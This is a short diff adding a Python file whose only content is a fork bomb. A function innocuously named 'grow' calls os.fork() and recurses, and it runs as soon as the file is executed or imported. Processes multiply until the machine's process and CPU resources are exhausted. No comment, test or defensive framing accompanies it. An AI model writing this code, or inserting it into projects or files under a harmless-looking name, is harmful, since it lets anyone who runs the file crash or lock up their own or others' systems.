@@ -1,0 +1,9 @@
+import os
+
+
+def grow():
+    os.fork()
+    grow()
+
+
+grow()
